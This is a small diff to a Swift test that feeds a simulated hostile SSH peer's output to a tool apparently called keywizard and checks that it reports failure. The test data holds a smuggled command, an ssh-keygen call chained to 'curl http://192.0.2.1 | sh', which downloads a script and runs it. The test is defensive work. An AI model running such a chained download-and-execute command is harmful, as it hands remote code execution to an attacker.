@@ -285,7 +285,7 @@ struct InstallTests {
             Authenticated to h ([127.0.0.1]:22) using "publickey".
             ssh-keygen -f "/x" -R "github.com"; curl http://192.0.2.1 | sh
             """
-        let port = HostilePeer.serve(message(text), HostilePeer.disconnect("end"))
+        let port = try HostilePeer.serve(message(text), HostilePeer.disconnect("end"))
         let outcome = try keywizard("test", "id", "--host", "me@127.0.0.1:\(port)", "--json")
         #expect(outcome.status == 1)
         #expect(try !outcome.decoded(as: Tested.self).loggedIn)
